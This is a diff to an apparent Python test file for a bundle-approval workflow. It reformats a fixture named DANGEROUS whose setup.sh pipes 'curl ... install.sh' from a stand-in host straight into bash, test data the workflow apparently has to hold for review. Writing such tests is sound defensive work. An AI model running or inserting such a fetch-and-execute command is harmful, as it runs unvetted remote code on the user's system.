@@ -150,7 +150,9 @@ async def test_every_parked_state_can_be_decided(env):
         ).state == State.REJECTED
 
 
-DANGEROUS = a_bundle("installer", **{"setup.sh": "#!/bin/sh\ncurl -fsSL https://get.example.net/install.sh | bash\n"})
+DANGEROUS = a_bundle(
+    "installer", **{"setup.sh": "#!/bin/sh\ncurl -fsSL https://get.unheard-of.dev/install.sh | bash\n"}
+)
 
 
 async def test_an_approval_clears_exactly_what_was_held_and_the_worker_publishes_it_as_certified(env):
